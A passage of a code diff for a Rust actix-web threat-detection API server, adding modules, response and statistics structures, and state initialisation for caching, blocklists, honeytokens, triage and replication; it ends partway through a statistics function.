@@ -7,34 +7,362 @@
 //! - Async processing
 //! - Metrics and monitoring
 
-use actix_web::{web, App, HttpServer, HttpResponse, Result};
+use actix_web::dev::Service;
+use actix_web::{web, App, HttpMessage, HttpRequest, HttpServer, HttpResponse, Result};
+use futures::StreamExt;
 use serde::{Deserialize, Serialize};
-use std::sync::{Arc, Mutex};
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::{Arc, Mutex, MutexGuard, RwLock};
+use std::time::Duration;
 use lru::LruCache;
+use regex::Regex;
 use std::num::NonZeroUsize;
-use log::{info, warn, error};
+use log::{debug, error, info, warn};
 use sha2::{Sha256, Digest};
 
+mod alerts;
+mod anomaly;
+mod audit;
+mod auth;
+mod blocklist;
+mod brand_assets;
+mod bundle;
+mod cache;
+mod canonical;
+mod capabilities;
+mod chaos;
+mod clock;
+mod components;
+mod config;
+mod conditional;
+mod content;
+#[cfg(feature = "dashboard")]
+mod dashboard;
+mod detector;
+mod domain;
+mod emergency;
+mod enrichment;
+mod fairness;
+mod fingerprints;
+mod fuzzy;
+mod honeytoken;
+mod idempotency;
+mod jobs;
+mod lists;
+mod metrics;
+mod pipeline;
+mod policy;
+mod preflight;
+mod pressure;
+mod qr;
+mod quota;
+mod ratelimit;
+mod recorder;
+mod recurrence;
+mod replication;
+mod session;
+// Shared with ryzen-scan, which uses the verifying half
+#[allow(dead_code)]
+mod signing;
+mod snapshot;
+mod spans;
+mod statsd;
+mod syslog_export;
+mod streams;
+mod template;
+mod tenant;
+mod testvectors;
+mod validation;
+mod thresholds;
+mod tls;
+mod topk;
+mod triage;
+mod warmup;
+mod watch;
+
+use anomaly::{AlertRule, Monitor, Sample, Transition, TypeCounts};
+use cache::CachedResult;
+use chaos::{Chaos, ChaosConfig, Faults};
+use clock::{Clock, SharedClock};
+use components::ComponentHealth;
+use config::Settings;
+use detector::DetectorRegistry;
+use emergency::{EmergencyRuleRequest, EmergencyRules};
+use enrichment::{EnrichmentStats, Enrichments, RedirectChain};
+use fairness::{FairScheduler, FairnessStats};
+use fingerprints::{FingerprintIndex, PreviouslySeen, Sighting};
+use fuzzy::FuzzyIndex;
+use lists::{DetectionLists, EffectiveLists};
+use alerts::AlertThrottle;
+use audit::{AuditLog, AuditStats};
+use auth::ApiKeys;
+use warmup::Warmup;
+use blocklist::BlocklistIndex;
+use honeytoken::{HoneytokenStore, TokenKind};
+use jobs::{JobLimiter, JobStats};
+use idempotency::{IdempotencyStore, Lookup};
+use metrics::{LockSummary, Metrics};
+use session::{SessionLimits, SessionRisk, SessionStore};
+use signing::{Signer, VerdictSignature};
+use snapshot::Manifest;
+use statsd::StatsdExporter;
+use syslog_export::{SyslogExporter, SyslogStats};
+use template::ResponseTemplate;
+use streams::{StreamError, StreamStore, UrlHint};
+use tenant::Tenant;
+use testvectors::VectorSet;
+use pipeline::Pipelines;
+use policy::ResponsePolicy;
+use pressure::{Level, PressureStatus, Watchdog};
+use quota::{QuotaTracker, Refusal, Usage};
+use ratelimit::RateLimiter;
+use recorder::{Recorder, RecorderStats};
+use recurrence::{Indicator, RecurrenceTracker};
+use replication::{Message, PromoteError, ReplicationStatus, Replicator, Role};
+use thresholds::{Thresholds, Verdict};
+use topk::TopThreats;
+use triage::{ResolveError, TriageQueue, TriageStats};
+use validation::{Shape, Violation};
+use watch::{WatchError, WatchStore};
+
 /// Threat detection request
 #[derive(Debug, Deserialize, Clone)]
 pub struct ThreatDetectionRequest {
     pub threat_type: String,  // "url", "code", "action"
     pub content: String,
     pub context: Option<String>,
+    /// Include the per-stage pipeline trace in the response
+    #[serde(default)]
+    pub explain: bool,
+    /// Whether and how slow lookups are merged into the verdict
+    #[serde(default)]
+    pub enrich: enrichment::Mode,
 }
 
-/// Threat detection response
-#[derive(Debug, Serialize, Clone)]
+/// Bumped on any incompatible change to the detection response layout
+pub const RESPONSE_SCHEMA_VERSION: u32 = 1;
+
+/// Threat detection response: a verdict, shared with the cache entry it
+/// was computed for or served from, and the fields set for one request.
+/// Setting those copies nothing; changing the verdict through `DerefMut`
+/// copies it only while it is shared.
+#[derive(Debug, Serialize, Deserialize, Clone)]
 pub struct ThreatDetectionResponse {
+    #[serde(flatten)]
+    result: Arc<DetectionResult>,
+    pub latency_ms: u64,
+    pub cached: bool,
+    /// Raw body was not valid UTF-8; invalid sequences were replaced before detection
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub lossy_utf8: bool,
+    /// Served from the cached verdict of near-duplicate content
+    #[serde(default)]
+    pub fuzzy_cached: bool,
+    pub idempotent_replay: bool,
+    /// Present when a signing key is configured
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub signature: Option<Box<VerdictSignature>>,
+    /// Id this verdict is recorded under in the fingerprint index
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub detection_id: Option<String>,
+    /// Earlier verdicts for the same content, under any threat type
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub previously_seen: Option<Box<PreviouslySeen>>,
+    /// Heuristic verdict; the enriched one follows under `detection_id`
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub enrichment_pending: bool,
+    /// Queued for human review in `/api/triage`
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub triage: bool,
+    /// Engine state the verdict was served under; see `/api/admin/state/{hash}`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub engine_state_hash: Option<Box<str>>,
+    /// Risk accumulated by the session named in the context
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub session_risk: Option<Box<SessionRisk>>,
+}
+
+/// What detection found, the part of a response the cache keeps
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct DetectionResult {
     pub is_threat: bool,
+    /// `safe`, `needs_review` or `threat`; `is_threat` is kept for compatibility
+    pub verdict: Verdict,
     pub threat_type: String,
     pub confidence: f32,
     pub severity: String,
     pub reasons: Vec<String>,
-    pub latency_ms: u64,
-    pub cached: bool,
+    pub polyglot: bool,
+    /// Verdict was produced while a dependency it normally uses was down
+    #[serde(default)]
+    pub degraded: bool,
+    #[serde(default, skip_serializing_if = "<[String]>::is_empty")]
+    pub degraded_components: Box<[String]>,
+    /// The client's `X-Timeout-Ms` deadline, or a batch item's slice of it,
+    /// passed before every stage ran
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub timed_out: bool,
+    /// Id of the honeytoken found in the content, if any
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub honeytoken_id: Option<Box<str>>,
+    /// Per-stage scores, present when the request asked to `explain`
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub trace: Vec<pipeline::StageTrace>,
+    /// Verdict includes the enrichment lookups
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub enriched: bool,
+    /// Where an enriched shortened URL's redirects led
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub redirect_chain: Option<Box<RedirectChain>>,
+}
+
+impl std::ops::Deref for ThreatDetectionResponse {
+    type Target = DetectionResult;
+
+    fn deref(&self) -> &DetectionResult {
+        &self.result
+    }
+}
+
+impl std::ops::DerefMut for ThreatDetectionResponse {
+    fn deref_mut(&mut self) -> &mut DetectionResult {
+        Arc::make_mut(&mut self.result)
+    }
+}
+
+impl ThreatDetectionResponse {
+    /// Rough bytes held, for the memory watchdog
+    fn estimated_bytes(&self) -> usize {
+        std::mem::size_of::<Self>()
+            + self.result.estimated_bytes()
+            + self.signature.as_ref().map_or(0, |_| std::mem::size_of::<VerdictSignature>() + 256)
+            + self.detection_id.as_ref().map_or(0, String::len)
+            + self.engine_state_hash.as_ref().map_or(0, |h| h.len())
+            + self.session_risk.as_ref().map_or(0, |r| std::mem::size_of::<SessionRisk>() + r.session_id.len())
+            + self.previously_seen.as_ref().map_or(0, |p| {
+                p.fingerprint.len() + p.detections.len() * (std::mem::size_of::<Sighting>() + 48)
+            })
+    }
+    
+    /// Fresh verdict with timing and flags left at their defaults
+    fn new(
+        threat_type: &str,
+        is_threat: bool,
+        confidence: f32,
+        severity: String,
+        reasons: Vec<String>,
+    ) -> Self {
+        Self::served(Arc::new(DetectionResult {
+            is_threat,
+            verdict: if is_threat { Verdict::Threat } else { Verdict::Safe },
+            threat_type: threat_type.to_string(),
+            confidence,
+            severity,
+            reasons,
+            polyglot: false,
+            degraded: false,
+            degraded_components: Box::default(),
+            timed_out: false,
+            honeytoken_id: None,
+            trace: Vec::new(),
+            enriched: false,
+            redirect_chain: None,
+        }))
+    }
+    
+    /// A shared verdict with none of the per-request fields set yet
+    fn served(result: Arc<DetectionResult>) -> Self {
+        Self {
+            result,
+            latency_ms: 0,
+            cached: false,
+            lossy_utf8: false,
+            fuzzy_cached: false,
+            idempotent_replay: false,
+            signature: None,
+            detection_id: None,
+            previously_seen: None,
+            enrichment_pending: false,
+            triage: false,
+            engine_state_hash: None,
+            session_risk: None,
+        }
+    }
+    
+    /// The verdict alone, as a cache entry holds it
+    fn verdict_only(&self) -> Self {
+        Self::served(self.result.clone())
+    }
+    
+    /// The verdict, copied only if it is still shared
+    fn into_result(self) -> DetectionResult {
+        Arc::unwrap_or_clone(self.result)
+    }
+}
+
+impl DetectionResult {
+    fn estimated_bytes(&self) -> usize {
+        let strings = |v: &[String]| v.iter().map(|s| std::mem::size_of::<String>() + s.len()).sum::<usize>();
+        std::mem::size_of::<Self>()
+            + self.threat_type.len()
+            + self.severity.len()
+            + strings(&self.reasons)
+            + strings(&self.degraded_components)
+            + self.honeytoken_id.as_ref().map_or(0, |id| id.len())
+            + self.redirect_chain.as_ref().map_or(0, |c| std::mem::size_of::<RedirectChain>() + c.final_url.len())
+            + self.trace.iter().map(|t| t.estimated_bytes()).sum::<usize>()
+    }
+}
+
+/// Body content types accepted by `/api/detect/raw`
+const RAW_CONTENT_TYPES: &[&str] = &["text/plain", "application/octet-stream"];
+
+/// Query of `/api/detect/raw`; the body is the content
+#[derive(Debug, Deserialize)]
+pub struct RawDetectionQuery {
+    pub threat_type: Option<String>,
+    pub context: Option<String>,
+    #[serde(default)]
+    pub explain: bool,
+}
+
+/// One fragment of a message posted to `/api/detect/partial`
+#[derive(Debug, Deserialize)]
+pub struct PartialDetectionRequest {
+    pub stream_id: String,
+    pub fragment: String,
+    /// Position of the fragment in the stream, from 0; unset appends in arrival order
+    pub seq: Option<u64>,
+    /// Last fragment: close the stream and return the full verdict
+    #[serde(default, rename = "final")]
+    pub is_final: bool,
+    /// Threat type of the final verdict; defaults to `url`
+    pub threat_type: Option<String>,
+    pub context: Option<String>,
 }
 
+/// Verdict for a stream so far, or for the whole message once final
+#[derive(Debug, Serialize)]
+pub struct PartialDetectionResponse {
+    pub stream_id: String,
+    /// Based on the URLs complete so far rather than the whole message
+    pub provisional: bool,
+    #[serde(flatten)]
+    pub progress: streams::Progress,
+    /// URLs found in the stream and their individual verdicts
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub url_hints: Vec<UrlHint>,
+    /// Phishing keywords found in the message
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub keywords: Vec<String>,
+    #[serde(flatten)]
+    pub verdict: ThreatDetectionResponse,
+}
+
+/// Longest accepted stream id
+const MAX_STREAM_ID_LEN: usize = 128;
+
 /// Batch detection request
 #[derive(Debug, Deserialize)]
 pub struct BatchDetectionRequest {
@@ -48,12 +376,40 @@ pub struct BatchDetectionResponse {
     pub total_latency_ms: u64,
 }
 
+/// Verdict for one QR code found in an uploaded image
+#[derive(Debug, Serialize)]
+pub struct QrCodeResult {
+    /// Decoded text, absent when the code could not be read
+    pub payload: Option<String>,
+    /// Phishing verdict for URL payloads
+    pub detection: Option<ThreatDetectionResponse>,
+    pub note: Option<String>,
+}
+
+/// QR detection response
+#[derive(Debug, Serialize)]
+pub struct QrDetectionResponse {
+    pub image: qr::ImageInfo,
+    pub codes_found: usize,
+    pub results: Vec<QrCodeResult>,
+    /// Set when the image holds no decodable code
+    pub message: Option<String>,
+    pub total_latency_ms: u64,
+}
+
 /// API Health status
 #[derive(Debug, Serialize)]
 pub struct HealthStatus {
     pub status: String,
     pub version: String,
     pub timestamp: String,
+    pub engine_state_hash: String,
+    /// Present when the memory watchdog is enabled
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub memory_pressure: Option<PressureStatus>,
+    /// Present when `replication_role` is set
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub replication: Option<ReplicationStatus>,
 }
 
 /// Statistics
@@ -62,323 +418,6962 @@ pub struct Statistics {
     pub total_detections: u64,
     pub threats_detected: u64,
     pub cache_hits: u64,
+    /// Lookups that found no live entry, expired ones included
+    pub cache_misses: u64,
+    /// Entries found past their TTL on lookup, and removed
+    pub cache_expired: u64,
+    /// Detections whose content matched `cache_bypass_pattern`
+    pub cache_bypassed: u64,
+    /// Cache entries removed by the sweep for outliving `cache_ttl_secs`
+    pub cache_swept_expired: u64,
+    /// Cache entries removed by the sweep for predating a rules change
+    pub cache_swept_stale: u64,
+    /// Verdicts served without a failed-open component
+    pub degraded_verdicts: u64,
+    /// Requests rejected because a failed-closed component is down
+    pub degraded_rejections: u64,
     pub cache_size: usize,
+    /// Mean over recent cached and uncached verdicts together
     pub avg_latency_ms: f32,
+    pub avg_latency_cached_ms: f32,
+    pub avg_latency_uncached_ms: f32,
+    /// Percentiles over the last 1000 uncached verdicts; 0 means under 1ms
+    pub latency_percentiles_ms: LatencyPercentiles,
+    /// Verdicts per request threat type
+    pub by_type: BTreeMap<String, TypeStatistics>,
+    /// Lock wait summary, present when `fine_grained_metrics` is on
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub lock_wait: Option<BTreeMap<&'static str, LockSummary>>,
+    /// Present when the memory watchdog is enabled
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub memory_pressure: Option<PressureStatus>,
+    /// Streams open on `/api/detect/partial`, and how they ended
+    pub partial_streams: streams::StreamStats,
+    /// Present when `audit_log_path` is set
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub audit: Option<AuditStats>,
+    /// Present when the recorder is enabled
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub recorder: Option<RecorderStats>,
+    /// Present when decisions are sent to syslog
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub syslog: Option<SyslogStats>,
+    /// Present when an enrichment lookup is configured
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub enrichment: Option<EnrichmentStats>,
+    /// Present when candidate pipelines are configured
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub ruleset_agreement: Option<RulesetAgreement>,
+    /// Batch slots and per-client queues, present when `batch_concurrency` is set
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub batch_fairness: Option<FairnessStats>,
+    /// Running and queued batch requests, present when `max_batch_jobs` is set
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub batch_jobs: Option<JobStats>,
+    /// Present when `triage_capacity` is set
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub triage: Option<TriageStats>,
+}
+
+/// How often `/api/detect/compare` found the candidate and active
+/// pipelines reaching the same verdict
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct RulesetAgreement {
+    pub compared: u64,
+    pub agreed: u64,
+    /// Candidate verdict was more severe than the active one
+    pub candidate_stricter: u64,
+    /// Candidate verdict was less severe than the active one
+    pub candidate_looser: u64,
+    /// Comparisons and agreements per request threat type
+    pub by_type: BTreeMap<String, AgreementCounts>,
+}
+
+#[derive(Debug, Clone, Copy, Default, Serialize)]
+pub struct AgreementCounts {
+    pub compared: u64,
+    pub agreed: u64,
+}
+
+impl RulesetAgreement {
+    fn record(&mut self, threat_type: &str, active: Verdict, candidate: Verdict) {
+        let rank = |verdict| match verdict {
+            Verdict::Safe => 0,
+            Verdict::NeedsReview => 1,
+            Verdict::Threat => 2,
+        };
+        let counts = self.by_type.entry(threat_type.to_string()).or_default();
+        self.compared += 1;
+        counts.compared += 1;
+        match rank(candidate).cmp(&rank(active)) {
+            std::cmp::Ordering::Equal => {
+                self.agreed += 1;
+                counts.agreed += 1;
+            }
+            std::cmp::Ordering::Greater => self.candidate_stricter += 1,
+            std::cmp::Ordering::Less => self.candidate_looser += 1,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, Default, Serialize)]
+pub struct LatencyPercentiles {
+    pub p50: u64,
+    pub p95: u64,
+    pub p99: u64,
 }
 
 /// Shared state
 pub struct AppState {
     cache: Arc<Mutex<LruCache<String, CachedResult>>>,
     stats: Arc<Mutex<DetectionStats>>,
+    settings: Arc<Settings>,
+    /// Problems a `--warn-only` start is running with
+    preflight: Vec<preflight::Problem>,
+    tenants: Arc<RwLock<HashMap<String, Tenant>>>,
+    thresholds: Arc<RwLock<HashMap<String, Thresholds>>>,
+    /// Bumped on every rule or threshold change; part of the cache key
+    rules_generation: AtomicU64,
+    audit: AuditLog,
+    /// Also app data of its own, for `auth::require_key`
+    api_keys: web::Data<ApiKeys>,
+    warmup: Warmup,
+    recorder: Recorder,
+    /// Decision export to a syslog collector, if configured
+    syslog: Option<SyslogExporter>,
+    /// Detections waiting on or finished with enrichment lookups
+    enrichments: Enrichments,
+    /// Batch item slots, shared fairly between clients
+    batch_scheduler: Arc<FairScheduler>,
+    /// Whole batch requests running and queued
+    batch_jobs: JobLimiter,
+    /// Large bloom-filtered URL blocklist, swapped whole on reload
+    url_blocklist: RwLock<Option<Arc<BlocklistIndex>>>,
+    idempotency: IdempotencyStore,
+    /// Detections each client has run today
+    quotas: QuotaTracker,
+    /// Detections each client may start now, for `ratelimit::throttle`
+    rate_limiter: RateLimiter,
+    metrics: Metrics,
+    alerts: AlertThrottle,
+    components: ComponentHealth,
+    /// Detection backends keyed by request threat type
+    detectors: DetectorRegistry,
+    /// Stage pipelines, swapped whole on reload
+    pipelines: RwLock<Arc<Pipelines>>,
+    /// Pipelines `/api/detect/compare` runs against the active ones, if configured
+    candidate_pipelines: RwLock<Option<Arc<Pipelines>>>,
+    honeytokens: HoneytokenStore,
+    /// Indicators clients watch for verdict changes
+    watches: WatchStore,
+    /// Detections held for human review
+    triage: TriageQueue,
+    signer: Option<Signer>,
+    chaos: Chaos,
+    stat_alerts: RwLock<Arc<Vec<AlertRule>>>,
+    monitor: Monitor,
+    fuzzy: FuzzyIndex,
+    /// Compiled `cache_bypass_pattern`
+    cache_bypass: Option<Regex>,
+    emergency: EmergencyRules,
+    /// Most frequently seen threat content
+    top_threats: TopThreats,
+    /// Messages arriving through `/api/detect/partial`
+    streams: StreamStore,
+    /// Conformance vectors, regenerated when rules or the schema change
+    test_vectors: Mutex<Option<Arc<VectorSet>>>,
+    /// `ruleset_version` as last loaded, part of every cache key
+    ruleset_version: RwLock<String>,
+    /// Current engine state and the rules generation it was computed at
+    engine_state: Mutex<Option<(u64, Arc<Manifest>)>>,
+    /// Held while the engine state is recomputed
+    engine_state_refresh: Mutex<()>,
+    /// Manifests of recent engine states
+    engine_states: snapshot::History,
+    /// Memory pressure level of the in-memory stores
+    pressure: Watchdog,
+    /// Sub-threshold sightings and escalated indicators
+    recurrence: RecurrenceTracker,
+    /// Warm-standby stream to or from the other instance of a pair
+    replication: Replicator,
+    /// Verdicts by content fingerprint, unless disabled
+    fingerprints: Option<FingerprintIndex>,
+    /// Risk accumulated per session, unless disabled
+    sessions: Option<SessionStore>,
+    /// Time source for expiry, cooldowns and timestamps
+    clock: SharedClock,
+    #[cfg(feature = "manual-clock")]
+    manual_clock: Arc<clock::ManualClock>,
 }
 
-/// Cached detection result
-#[derive(Clone, Debug)]
-struct CachedResult {
-    response: ThreatDetectionResponse,
+/// Verdicts served for one request threat type
+#[derive(Debug, Clone, Serialize)]
+pub struct TypeStatistics {
+    /// Computed verdicts, and threats among them
+    #[serde(flatten)]
+    pub counts: TypeCounts,
+    pub cache_hits: u64,
+    /// Mean over recent cached and uncached verdicts of this type
+    pub avg_latency_ms: f32,
+    /// Reviewers' verdicts on triaged detections of this type
+    pub reviews: ReviewCounts,
 }
 
-/// Detection statistics
-#[derive(Default, Debug)]
-struct DetectionStats {
-    total_detections: u64,
-    threats_detected: u64,
-    cache_hits: u64,
-    latencies: Vec<u64>,
+/// Triage resolutions for one request threat type, against the engine's
+/// verdict on the same detections
+#[derive(Debug, Clone, Copy, Default, Serialize)]
+pub struct ReviewCounts {
+    pub threat: u64,
+    pub safe: u64,
+    /// The engine called a threat that the reviewer found safe
+    pub false_positives: u64,
+    /// The reviewer found a threat that the engine did not call
+    pub false_negatives: u64,
 }
 
-impl DetectionStats {
-    fn avg_latency(&self) -> f32 {
-        if self.latencies.is_empty() {
-            0.0
-        } else {
-            self.latencies.iter().sum::<u64>() as f32 / self.latencies.len() as f32
+impl AppState {
+    /// State for `settings`, starting without the optional artifacts
+    /// `report` found broken
+    fn new(
+        settings: Settings,
+        report: preflight::Report,
+        clock: SharedClock,
+        #[cfg(feature = "manual-clock")] manual_clock: Arc<clock::ManualClock>,
+    ) -> std::io::Result<Self> {
+        // Under --warn-only, tenant list files that failed preflight start empty
+        let configured: HashMap<String, config::TenantSettings> = settings
+            .tenants
+            .iter()
+            .map(|(id, tenant)| {
+                let mut tenant = tenant.clone();
+                for file in [&mut tenant.brands_file, &mut tenant.allowlist_file, &mut tenant.blocklist_file, &mut tenant.context_keywords_file] {
+                    if file.as_deref().is_some_and(|path| report.failed(path)) {
+                        *file = None;
+                    }
+                }
+                (id.clone(), tenant)
+            })
+            .collect();
+        let tenants = tenant::load_tenants(&configured)?;
+        let audit_log_path = settings.audit_log_path.as_deref().filter(|path| !report.failed(path));
+        let api_keys = ApiKeys::load(&settings, clock.clone())?;
+        match api_keys.enabled() {
+            true => info!("API key authentication on, {} key(s)", api_keys.len()),
+            false => warn!("No API keys configured; every route is open"),
         }
+        let audit = AuditLog::open(audit_log_path, settings.audit_buffer_capacity, settings.audit_overflow, clock.clone())?;
+        let recorder = match settings.recorder_path.as_deref().is_some_and(|path| report.failed(path)) {
+            true => Recorder::open(&Settings { recorder_path: None, ..settings.clone() }, clock.clone())?,
+            false => Recorder::open(&settings, clock.clone())?,
+        };
+    
+        let syslog = match &settings.syslog_addr {
+            Some(addr) => {
+                let target = syslog_export::Target {
+                    addr: addr.clone(),
+                    protocol: settings.syslog_protocol.parse().unwrap_or(syslog_export::Protocol::Udp),
+                    facility: settings.syslog_facility.parse().unwrap_or(syslog::Facility::LOG_LOCAL0),
+                };
+                info!("Logging detection decisions to syslog at {} ({})", addr, settings.syslog_protocol);
+                Some(SyslogExporter::start(target, clock.clone())?)
+            }
+            None => None,
+        };
+        let honeytokens = HoneytokenStore::load(&settings.data_dir, clock.clone())?;
+        let watches = WatchStore::load(
+            &settings.data_dir,
+            settings.watch_max_indicators,
+            settings.watch_max_keys,
+            Duration::from_secs(settings.watch_reevaluate_interval_secs),
+            clock.clone(),
+        )?;
+        let signer = match settings.signing_key_path.as_deref().filter(|path| !report.failed(path)) {
+            Some(path) => {
+                let signer = Signer::load(path, settings.signing_key_id.clone())?.with_payload(settings.signing_payload);
+                info!("Signing responses with key {}", signer.key_id());
+                Some(signer)
+            }
+            None => None,
+        };
+        let components = ComponentHealth::new(settings.component_policies.clone());
+        let url_blocklist = match &settings.url_blocklist_path {
+            Some(path) => {
+                let start = std::time::Instant::now();
+                match BlocklistIndex::load(path, settings.url_blocklist_fp_rate) {
+                    Ok(index) => {
+                        info!(
+                            "URL blocklist loaded: {} entries, {} byte filter, {} ms",
+                            index.entries(),
+                            index.memory_bytes(),
+                            start.elapsed().as_millis()
+                        );
+                        Some(Arc::new(index))
+                    }
+                    Err(e) => {
+                        error!("URL blocklist unavailable ({:?} policy): {}", components.policy("url_blocklist"), e);
+                        components.mark_down("url_blocklist", e.to_string());
+                        None
+                    }
+                }
+            }
+            None => None,
+        };
+    
+        info!("Loaded {} tenant overlay(s)", tenants.len());
+    
+        Ok(Self {
+            cache: Arc::new(Mutex::new(LruCache::new(NonZeroUsize::new(settings.cache_capacity).unwrap_or(NonZeroUsize::MIN)))),
+            stats: Arc::new(Mutex::new(DetectionStats::default())),
+            tenants: Arc::new(RwLock::new(tenants)),
+            thresholds: Arc::new(RwLock::new(settings.thresholds.clone())),
+            rules_generation: AtomicU64::new(0),
+            audit,
+            api_keys: web::Data::new(api_keys),
+            warmup: Warmup::new(settings.warmup_rounds),
+            recorder,
+            syslog,
+            enrichments: Enrichments::new(&settings).map_err(std::io::Error::other)?,
+            batch_scheduler: Arc::new(FairScheduler::new(settings.batch_concurrency, clock.clone())),
+            batch_jobs: JobLimiter::new(settings.max_batch_jobs, settings.batch_job_queue),
+            url_blocklist: RwLock::new(url_blocklist),
+            metrics: Metrics::new(settings.fine_grained_metrics),
+            components,
+            detectors: {
+                let mut detectors = DetectorRegistry::builtin();
+                for threat_type in &settings.disabled_threat_types {
+                    info!("Threat type {} disabled", threat_type);
+                    detectors.unregister(threat_type);
+                }
+                detectors
+            },
+            pipelines: RwLock::new(Arc::new(settings.pipelines.clone())),
+            candidate_pipelines: RwLock::new(candidate_ruleset(&settings)),
+            honeytokens,
+            watches,
+            triage: TriageQueue::new(settings.triage_capacity, clock.clone()),
+            signer,
+            stat_alerts: RwLock::new(Arc::new(settings.stat_alerts.clone())),
+            monitor: Monitor::new(clock.clone()),
+            fuzzy: FuzzyIndex::new(10_000),
+            // Validated with the rest of the settings
+            cache_bypass: settings.cache_bypass_pattern.as_deref().and_then(|p| Regex::new(p).ok()),
+            emergency: EmergencyRules::new(clock.clone()),
+            top_threats: TopThreats::new(settings.top_threats_capacity),
+            streams: StreamStore::new(
+                settings.stream_capacity,
+                settings.stream_max_bytes,
+                settings.stream_max_pending_fragments,
+                Duration::from_secs(settings.stream_ttl_secs),
+                clock.clone(),
+            ),
+            test_vectors: Mutex::new(None),
+            ruleset_version: RwLock::new(settings.ruleset_version.clone()),
+            engine_state: Mutex::new(None),
+            engine_state_refresh: Mutex::new(()),
+            engine_states: snapshot::History::default(),
+            pressure: Watchdog::new(
+                settings.memory_soft_limit_bytes,
+                match settings.memory_hard_limit_bytes {
+                    0 => usize::MAX,
+                    hard => hard,
+                },
+                clock.utc(),
+            ),
+            recurrence: RecurrenceTracker::new(
+                NonZeroUsize::new(settings.recurrence_capacity).unwrap_or(NonZeroUsize::MIN),
+                clock.clone(),
+            ),
+            fingerprints: NonZeroUsize::new(settings.fingerprint_index_capacity).map(FingerprintIndex::new),
+            sessions: NonZeroUsize::new(settings.session_capacity).map(|capacity| {
+                let limits = SessionLimits {
+                    idle: Duration::from_secs(settings.session_idle_secs),
+                    min_confidence: settings.session_min_confidence,
+                    max_signals: settings.session_max_signals,
+                };
+                SessionStore::new(capacity, limits, clock.clone())
+            }),
+            replication: Replicator::new(
+                match settings.replication_role.as_str() {
+                    "primary" => Some(Role::Primary),
+                    "standby" => Some(Role::Standby),
+                    _ => None,
+                },
+                settings.replication_token.clone().unwrap_or_default(),
+                settings.replication_queue_capacity,
+                clock.clone(),
+            ),
+            chaos: Chaos::new(Duration::from_secs(settings.chaos_duration_secs), clock.clone()),
+            alerts: AlertThrottle::new(Duration::from_secs(settings.alert_cooldown_secs), clock.clone()),
+            idempotency: IdempotencyStore::new(
+                settings.idempotency_capacity,
+                Duration::from_secs(settings.idempotency_ttl_secs),
+                clock.clone(),
+            ),
+            quotas: QuotaTracker::new(settings.quota_reset_hour_utc, settings.quota_clients, clock.clone()),
+            rate_limiter: RateLimiter::new(
+                settings.rate_limit_per_sec,
+                settings.rate_limit_burst,
+                settings.rate_limit_clients,
+                clock.clone(),
+            ),
+            clock,
+            #[cfg(feature = "manual-clock")]
+            manual_clock,
+            preflight: report.problems,
+            settings: Arc::new(settings),
+        })
     }
-}
-
-/// Main detection endpoint
-async fn detect_threat(
-    req: web::Json<ThreatDetectionRequest>,
-    state: web::Data<AppState>,
-) -> Result<HttpResponse> {
-    let start = std::time::Instant::now();
     
-    // Generate cache key
-    let cache_key = format!("{}:{}:{}", 
-        req.threat_type, 
-        req.content, 
-        req.context.as_deref().unwrap_or("")
-    );
-    let hash_key = hash_string(&cache_key);
+    /// Snapshot of the current statistics
+    fn statistics(&self) -> Statistics {
+        let cache = self.lock_cache();
+        let stats = self.lock_stats();
+        
+        Statistics {
+            total_detections: stats.total_detections,
+            threats_detected: stats.threats_detected,
+            cache_hits: stats.cache_hits,
+            cache_misses: stats.cache_misses,
+            cache_expired: stats.cache_expired,
+            cache_bypassed: stats.cache_bypassed,
+            cache_swept_expired: stats.cache_swept_expired,
+            cache_swept_stale: stats.cache_swept_stale,
+            degraded_verdicts: stats.degraded_verdicts,
+            degraded_rejections: stats.degraded_rejections,
+            cache_size: cache.len(),
+            avg_latency_ms: mean(stats.latencies.iter().chain(&stats.cached_latencies)),
+            avg_latency_cached_ms: mean(&stats.cached_latencies),
+            avg_latency_uncached_ms: mean(&stats.latencies),
+            latency_percentiles_ms: percentiles(&stats.latencies),
+            by_type: stats
+                .by_type
+                .keys()
+                .chain(stats.cache_hits_by_type.keys())
+                .chain(stats.reviews_by_type.keys())
+                .collect::<BTreeSet<_>>()
+                .into_iter()
+                .map(|t| {
+                    (t.clone(), TypeStatistics {
+                        counts: stats.by_type.get(t).copied().unwrap_or_default(),
+                        cache_hits: stats.cache_hits_by_type.get(t).copied().unwrap_or_default(),
+                        avg_latency_ms: mean(stats.latencies_by_type.get(t).into_iter().flatten()),
+                        reviews: stats.reviews_by_type.get(t).copied().unwrap_or_default(),
+                    })
+                })
+                .collect(),
+            lock_wait: self.metrics.lock_summary(),
+            memory_pressure: self.pressure.enabled().then(|| self.pressure.status()),
+            partial_streams: self.streams.stats(),
+            audit: self.audit.stats(),
+            recorder: self.recorder.enabled().then(|| self.recorder.stats()),
